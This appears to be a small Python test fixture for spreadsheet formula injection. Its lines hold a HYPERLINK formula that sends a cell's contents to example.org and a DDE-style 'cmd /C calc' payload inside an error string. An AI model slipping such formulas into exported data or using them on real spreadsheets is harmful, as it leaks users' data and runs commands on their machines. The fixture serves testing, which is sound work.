# mark: 9
# why: attack: formulas of a spreadsheet in an answer, an error, a cell and a written answer
# canary: page

# %% heaviest
answer = '=HYPERLINK("http://example.org/?"&A1;"click")'
print(answer)

# %%
raise ValueError("=1+1; @SUM(A1:A9), +cmd|' /C calc'!A0\n-2+3")

# %% why
=HYPERLINK("http://example.org/?"&A1,"click") because random plants are as good as any.
